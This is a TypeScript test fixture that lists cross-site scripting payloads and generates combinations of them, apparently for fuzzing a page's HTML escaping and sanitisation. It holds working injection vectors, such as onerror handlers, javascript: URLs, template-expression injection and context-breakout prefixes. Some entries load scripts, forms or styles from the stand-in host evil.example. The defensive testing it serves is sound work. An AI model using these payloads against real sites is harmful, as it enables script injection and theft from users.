import { SplitMix64 } from "../../src/testing/SplitMix64";

/** What turns into more than text in pages that put strings together. Who runs `pwned()` is heard. */
export const payloads: readonly string[] = [
  "<img src=x onerror=pwned()>",
  "<script>pwned()</script>",
  '"><svg onload=pwned()>',
  "'-pwned()-'",
  "javascript:pwned()",
  "[link](javascript:pwned())",
  '![image](x "onerror=pwned()")',
  "<style>*{display:none}</style>",
  "<iframe srcdoc='<script>parent.pwned()</script>'>",
  "</textarea><b>bold</b>",
  "{{constructor.constructor('pwned()')()}}",
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  "<math><mtext></mtext><mglyph><style><img src=x onerror=pwned()>",
  "<template><script>pwned()</script></template>",
  "&lt;b&gt; &amp; &#60;",
  "%3Cscript%3Epwned()%3C/script%3E",
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  "${pwned()} `pwned()`",
  "expression(pwned()); background:url(x)",
  "<link rel=stylesheet href=//evil.example/x.css>",
];

/** The way out of where a text is put: an attribute, an element, a script, a comment, a style. */
const ways = [
  "",
  '"',
  "'",
  "`",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</pre>",
  "-->",
  "]]>",
  "*/",
  "\\'",
  "&quot;>",
  "\u2028",
  "#d43d51;",
  "url(x);",
  "../",
];

/** What is done with it there. */
const deeds = [
  "<img src=x onerror=pwned()>",
  "<IMG/SRC=x/ONERROR=pwned()>",
  "<script>pwned()</script>",
  "<script src=//evil.example/x.js></script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<svg><script>pwned()</script></svg>",
  "<svg/onload=pwned()>",
  "<body onload=pwned()>",
  "<input autofocus onfocus=pwned()>",
  "<details open ontoggle=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<iframe src=javascript:parent.pwned()>",
  "<object data=//evil.example/x>",
  "<embed src=//evil.example/x>",
  "<form action=//evil.example/><button>x</button></form>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<div style="background:url(//evil.example/x)">x</div>',
  "<div is=x-y contenteditable id=app>x</div>",
  '<a href="javascript:pwned()" autofocus onfocus=pwned()>x</a>',
  "<a href=java&#9;script:pwned()>x</a>",
  "<p onclick=pwned()>x</p>",
  " onmouseover=pwned() x=",
  " style=background:url(//evil.example/x) ",
  "background:url(//evil.example/x)",
  "javascript:pwned()//",
  "data:text/html,<script>pwned()</script>",
  "<x-element onpointerenter=pwned()>x",
  "<slot name=x><dialog open>x</dialog>",
  "<![CDATA[<img src=x onerror=pwned()>]]>",
];

/** So many of them, all different: those above first, and then every way out with every deed. */
export function manyPayloads(count: number): string[] {
  const random = new SplitMix64(6);
  const all = new Set(payloads);
  while (all.size < count) all.add(random.oneOf(ways) + random.oneOf(deeds));
  return [...all].slice(0, count);
}
